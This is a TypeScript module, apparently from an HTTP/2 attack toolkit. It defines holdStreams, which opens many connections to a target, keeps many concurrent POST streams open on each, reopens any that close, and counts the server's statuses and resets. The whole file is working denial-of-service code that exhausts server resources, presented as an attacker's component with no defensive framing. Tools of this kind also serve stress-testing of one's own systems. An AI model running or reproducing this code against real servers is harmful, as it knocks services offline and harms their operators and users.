import { once } from "node:events";
import { type ClientHttp2Session, type ClientHttp2Stream, connect, type OutgoingHttpHeaders } from "node:http2";
import { setTimeout as sleep } from "node:timers/promises";
import { type Attacker, onLines } from "./attack.ts";

export interface StreamsShape {
  readonly connections: number;
  /** At the same time on each of them. */
  readonly streams: number;
  readonly headers: (attacker: Attacker) => OutgoingHttpHeaders;
  /** What the client lets a stream send, in bytes. */
  readonly window?: number;
  /** Sends what it likes. */
  readonly begin: (stream: ClientHttp2Stream) => void;
}

/** Holds streams open on many connections, and opens those anew that were closed. Counts answers and resets. */
export const holdStreams = async (attacker: Attacker, { connections, streams, headers, window, begin }: StreamsShape): Promise<void> => {
  const { signal, count, target } = attacker;
  const openOne = (session: ClientHttp2Session): Promise<void> =>
    new Promise((resolve) => {
      const stream = session.request({ ":method": "POST", ...headers(attacker) });
      stream.on("error", () => undefined);
      stream.on("response", (fields) =>
        count(`${fields[":status"]}${fields["grpc-status"] ? ` grpc-status ${fields["grpc-status"]}` : ""}`),
      );
      stream.on("close", () => {
        if (stream.rstCode !== 0) count(`reset ${stream.rstCode}`);
        resolve();
      });
      begin(stream);
    });
  await onLines(connections, attacker, async () => {
    const session = connect(target.url, { settings: { initialWindowSize: window ?? 65_535 } });
    session.on("error", () => undefined);
    await Promise.race([once(session, "remoteSettings"), once(session, "close"), sleep(2_000)]);
    const hold = async (): Promise<void> => {
      while (!signal.aborted && !session.closed && !session.destroyed) {
        await openOne(session);
        await sleep(20);
      }
    };
    await Promise.all(Array.from({ length: streams }, hold));
    await sleep(20);
  });
};
